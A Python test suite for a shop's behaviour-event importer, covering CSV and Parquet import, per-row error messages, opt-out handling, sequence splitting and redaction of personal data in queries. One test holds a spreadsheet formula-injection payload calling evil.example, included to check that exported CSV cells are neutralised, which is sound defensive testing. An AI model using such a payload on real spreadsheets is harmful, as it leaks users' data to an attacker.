"""A shop's own events: imported whole or refused with every reason, and put into sequences."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from zoneinfo import ZoneInfo

import pandas as pd
import pytest
from data_rows import NOW, fill
from sqlalchemy import select

from data.errors import DataError, ImportRejected
from data.importer import Terms
from data.importer.__main__ import main
from data.importer.events import EventCount, import_events
from data.models import BehaviourEvent, EventKind
from data.sequences import sequences, split, write
from data.unit_of_work import UnitOfWork

TERMS = Terms("CNY", "CN", ZoneInfo("Asia/Shanghai"), ("zh", "en"))
HEADER = "event_id,kind,at,email,visitor,product,query,value\n"
GOOD = (
    HEADER + "e1,view,2026-11-20 10:00,Lin@Example.com,,ridge-tent,,\n"
    "e2,search,2026-11-20T02:05:00Z,lin@example.com,,,双人 帐篷,\n"
    "e3,cart,2026/11/20 10:10,,web-77,dome-tent,,1\n"
    "e4,rating,2026-11-20 10:20,chen@example.com,,steel-mug,,4.5\n"
    "e5,purchase,2026-11-20 10:30,,web-77,dome-tent,,1299.50\n"
)


@pytest.fixture
def uow(new_uow: Callable[[], UnitOfWork]) -> UnitOfWork:
    uow = new_uow()
    fill(uow)
    return uow


def take(
    uow: UnitOfWork, folder: Path, text: str, name: str = "events.csv", **options: bool
) -> EventCount:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return import_events(path, uow, terms=TERMS, now=NOW, **options)


def refused(uow: UnitOfWork, folder: Path, text: str) -> list[str]:
    with pytest.raises(ImportRejected) as caught:
        take(uow, folder, text)
    with uow:
        assert uow.session.scalars(select(BehaviourEvent)).all() == []
    return caught.value.problems


def test_a_file_is_taken_over_once(uow: UnitOfWork, tmp_path: Path) -> None:
    assert take(uow, tmp_path, GOOD, dry_run=True).new == 5
    assert take(uow, tmp_path, GOOD) == EventCount(new=5)
    more = GOOD + "e6,dislike,2026-11-21 09:00,lin@example.com,,steel-mug,,\n"
    assert take(uow, tmp_path, more) == EventCount(new=1, known=5)
    with uow:
        lin = uow.customers.by_email("lin@example.com")
        assert lin is not None
        view, search, dislike = uow.behaviour.of_customer(lin.id)
        assert view.at.isoformat() == "2026-11-20T02:00:00+00:00"
        assert search.query == "双人 帐篷"
        assert dislike.kind is EventKind.DISLIKE
        assert uow.behaviour.disliked(lin.id, None) == {"steel-mug"}
        visitors = [e.origin for e, owner in uow.behaviour.everybodys() if owner is None]
        assert visitors == ["visitor:web-77"] * 2


def test_parquet_says_the_same_as_csv(uow: UnitOfWork, tmp_path: Path) -> None:
    path = tmp_path / "events.parquet"
    pd.DataFrame(
        {
            "kind": ["view", "rating", "search"],
            "at": pd.to_datetime(["2026-11-20 10:00", "2026-11-20 11:00", "2026-11-20 12:00"]),
            "email": ["lin@example.com", "chen@example.com", None],
            "visitor": [None, None, "v1"],
            "product": ["ridge-tent", "steel-mug", None],
            "query": [None, None, "tent"],
            "value": [None, 4.0, None],
        }
    ).to_parquet(path)
    assert import_events(path, uow, terms=TERMS, now=NOW) == EventCount(new=3)
    assert import_events(path, uow, terms=TERMS, now=NOW) == EventCount(known=3)
    with uow:
        found = [(e.kind, e.at.hour) for e, _ in uow.behaviour.everybodys()]
        assert found == [(EventKind.VIEW, 2), (EventKind.RATING, 3), (EventKind.SEARCH, 4)]


def test_a_customer_may_be_named_by_their_telephone(uow: UnitOfWork, tmp_path: Path) -> None:
    with uow:
        lin = uow.customers.by_email("lin@example.com")
        assert lin is not None
        lin.phone, lin.joined_at = "+8613800138000", None
        uow.commit()
    header = "kind,at,phone,product\n"
    assert take(uow, tmp_path, header + "view,2026-11-20 10:00,138 0013 8000,dome-tent\n").new == 1
    with pytest.raises(ImportRejected, match="is no customer"):
        take(uow, tmp_path, header + "view,2026-11-20 10:00,13900139000,dome-tent\n")


def test_every_problem_is_told_with_its_row_and_column(uow: UnitOfWork, tmp_path: Path) -> None:
    text = (
        HEADER + "e1,view,2026-11-20 10:00,lin@example.com,,ridge-tent,,\n"
        "e2,look,2026-11-20 10:00,lin@example.com,,ridge-tent,,\n"
        "e3,view,yesterday,lin@example.com,,ridge-tent,,\n"
        "e4,view,2026-11-23 10:00,lin@example.com,,ridge-tent,,\n"
        "e5,view,1970-01-01 00:00,lin@example.com,,ridge-tent,,\n"
        "e6,view,2026-11-20 10:00,nobody@example.com,,ridge-tent,,\n"
        "e7,view,2026-11-20 10:00,lin@example.com,,no-such-thing,,\n"
        "e8,view,2026-11-20 10:00,lin@example.com,web-1,ridge-tent,,\n"
        "e9,search,2026-11-20 10:00,lin@example.com,,,,\n"
        "e10,rating,2026-11-20 10:00,lin@example.com,,ridge-tent,,6\n"
        "e1,view,2026-11-20 10:00,lin@example.com,,ridge-tent,,\n"
        ",view,2026-11-20 10:00,chen@example.com,,ridge-tent,,\n"
        ",view,2026-11-20 10:00,chen@example.com,,ridge-tent,,\n"
        "e14,view,2026-11-20 10:00,lin@example.com\n"
        "e15,click,2026-11-20 10:00,lin@example.com,,ridge-tent,,\n"
        "e16,view,2026-11-20 10:00,lin@example.com,,ridge-tent,words,\n"
    )
    places = [problem.split(": ", 1)[0] for problem in refused(uow, tmp_path, text)]
    assert places == [
        "events.csv, row 2, column kind",
        "events.csv, row 3, column at",
        "events.csv, row 4, column at",
        "events.csv, row 5, column at",
        "events.csv, row 6, column email",
        "events.csv, row 7, column product",
        "events.csv, row 8, column email",
        "events.csv, row 9, column query",
        "events.csv, row 10, column value",
        "events.csv, row 11, column event_id",
        "events.csv, row 13",
        "events.csv, row 14, column product",
        "events.csv, row 15, column kind",
        "events.csv, row 16, column query",
    ]


def test_the_sentences_say_what_to_do(uow: UnitOfWork, tmp_path: Path) -> None:
    text = HEADER + ",view,2027-01-01 00:00,lin@example.com,,ridge-tent,,\n"
    assert refused(uow, tmp_path, text) == [
        "events.csv, row 1, column at: '2027-01-01 00:00' is still to come; look at the file's "
        "clock."
    ]


@pytest.mark.parametrize(
    ("header", "what"),
    [
        ("kind,at,email,prodct", "perhaps product is meant"),
        ("kind,email,product", "column at: is missing"),
        ("kind,at,product", "give email, phone or visitor"),
        ("kind,at,email,at", "stands twice"),
    ],
)
def test_wrong_columns_are_refused(uow: UnitOfWork, tmp_path: Path, header: str, what: str) -> None:
    assert any(what in problem for problem in refused(uow, tmp_path, f"{header}\na,b,c\n"))


def test_what_is_no_table_is_refused(uow: UnitOfWork, tmp_path: Path) -> None:
    assert "is not CSV" in refused(uow, tmp_path, GOOD + 'e9,"view\n' + "x," * 20 + "\n")[0]
    (tmp_path / "a.parquet").write_bytes(b"no parquet")
    for name, what in (("a.parquet", "is not Parquet"), ("absent.csv", "cannot be read")):
        with pytest.raises(ImportRejected, match=what):
            import_events(tmp_path / name, uow, terms=TERMS, now=NOW)
    (tmp_path / "b.csv").write_bytes(b"\xff\xff")
    with pytest.raises(ImportRejected, match="neither UTF-8 nor GB 18030"):
        import_events(tmp_path / "b.csv", uow, terms=TERMS, now=NOW)


def test_a_row_with_more_cells_than_names_is_no_row(uow: UnitOfWork, tmp_path: Path) -> None:
    long = "e0,search,2026-11-20 10:00,lin@example.com,,,warm, light tent,\n"
    (told,) = refused(uow, tmp_path, HEADER + long)
    assert "Expected 8 fields in line 2, saw 9" in told
    (told,) = refused(uow, tmp_path, "")
    assert "is not CSV" in told


def test_chinese_excels_own_encoding_is_read(uow: UnitOfWork, tmp_path: Path) -> None:
    path = tmp_path / "events.csv"
    path.write_bytes(GOOD.replace(",", ";").encode("gb18030"))
    assert import_events(path, uow, terms=TERMS, now=NOW).new == 5
    with uow:
        assert "双人 帐篷" in {e.query for e, _ in uow.behaviour.everybodys()}


def test_odd_times_are_stored_and_counted(uow: UnitOfWork, tmp_path: Path) -> None:
    text = (
        HEADER + "e1,view,2025-01-02 10:00,lin@example.com,,ridge-tent,,\n"
        "e2,view,2025-02-02 10:00,,web-1,ridge-tent,,\n"
    )
    assert take(uow, tmp_path, text) == EventCount(new=2, before_joining=1, before_launch=2)


def test_nothing_is_imported_of_whoever_switched_history_off(
    uow: UnitOfWork, tmp_path: Path
) -> None:
    with uow:
        lin = uow.customers.by_email("lin@example.com")
        assert lin is not None
        lin.personalised = False
        uow.commit()
    assert take(uow, tmp_path, GOOD) == EventCount(new=3, ignored=2)
    with uow:
        frame = sequences(uow)
        assert len(frame) == 4  # Chen's order and rating, the visitor's two
        assert frame["subject"].nunique() == 2


def test_more_rows_than_one_piece(
    uow: UnitOfWork, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("data.importer.events._PIECE", 3)
    rows = "".join(f"e{n},view,2026-11-20 10:00,,v{n % 4},ridge-tent,,\n" for n in range(10))
    assert take(uow, tmp_path, HEADER + rows).new == 10
    wrong = rows + "f1,view,2026-11-20 10:00,,v1,gone,,\n"
    with pytest.raises(ImportRejected, match="row 11, column product"):
        take(uow, tmp_path, HEADER + wrong)


def test_the_command_tells_what_was_stored(
    uow: UnitOfWork, database: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    identity = "name: Own\nlanguages: [zh]\ncountry: CN\ncurrency: CNY\ntimezone: Asia/Shanghai\n"
    (tmp_path / "shop.yaml").write_text(identity)
    path = tmp_path / "events.csv"
    path.write_text(GOOD, encoding="utf-8")
    arguments = ["events", str(path), "--database", database, "--shop", str(tmp_path)]
    assert main(arguments) == 0
    assert capsys.readouterr().out == "5 events new\nStored.\n"
    path.write_text(HEADER + "e1,view,,,,,,\n", encoding="utf-8")
    assert main(arguments) == 1
    assert "row 1, column at: is empty" in capsys.readouterr().err


def test_sequences_hold_orders_and_events_in_order_of_time(uow: UnitOfWork, tmp_path: Path) -> None:
    take(uow, tmp_path, GOOD)
    with uow:
        frame = sequences(uow)
    assert frame["at"].groupby(frame["subject"]).is_monotonic_increasing.all()
    kinds = frame.groupby("subject")["kind"].apply(list).to_list()
    assert sorted(kinds, key=len) == [
        ["cart", "purchase"],
        ["rating", "purchase"],
        ["purchase", "purchase", "purchase", "view", "search"],
    ]
    assert "lin@example.com" not in frame.to_csv()

    parts = split(frame, valid_days=5, test_days=3)
    order = ["train", "valid", "test"]
    bounds = [parts[parts["split"] == part]["at"] for part in order]
    assert [len(bound) for bound in bounds] == [3, 0, 6]
    assert bounds[0].max() < bounds[2].min()
    with pytest.raises(DataError, match="fewer days"):
        split(frame, valid_days=1000, test_days=1000)

    write(parts, tmp_path / "out" / "steps.parquet")
    again = pd.read_parquet(tmp_path / "out" / "steps.parquet")
    assert list(again.columns) == ["subject", "at", "kind", "product", "query", "value", "split"]
    assert len(again) == len(parts)
    write(parts, tmp_path / "steps.csv")
    assert len(pd.read_csv(tmp_path / "steps.csv")) == len(parts)


def test_a_table_for_a_spreadsheet_computes_nothing(tmp_path: Path) -> None:
    said = ['=HYPERLINK("https://evil.example/"&A1)', "+1", "-1", "@a", "\tx", "＝1", "tent", ""]
    at = pd.Timestamp("2026-11-22 09:05", tz="UTC")
    frame = pd.DataFrame({"item": said, "at": at, "quantity": -1})
    write(frame, tmp_path / "steps.csv")
    kept = pd.read_csv(tmp_path / "steps.csv", keep_default_na=False)
    assert list(kept["item"]) == [f"'{each}" for each in said[:6]] + ["tent", ""]
    assert list(kept["quantity"]) == [-1] * len(said)
    assert kept["at"][0] == "2026-11-22 09:05:00+00:00"


def test_an_empty_shop_has_no_sequences(new_uow: Callable[[], UnitOfWork]) -> None:
    with new_uow() as uow, pytest.raises(DataError, match="import some first"):
        split(sequences(uow), valid_days=1, test_days=1)


def test_what_was_searched_for_says_no_more_who_it_was(new_uow):
    with new_uow() as uow:
        fill(uow)
        for number, query in enumerate(("tent for jane@example.org", "电话13800138000", "雨衣")):
            uow.session.add(
                BehaviourEvent(origin="shop", event_id=str(number), kind=EventKind.SEARCH,
                               query=query, at=NOW)
            )  # fmt: skip
        uow.session.flush()
        queries = set(sequences(uow, "CN")["query"].dropna())
    assert queries == {"tent for 〔email〕", "电话〔phone〕", "雨衣"}
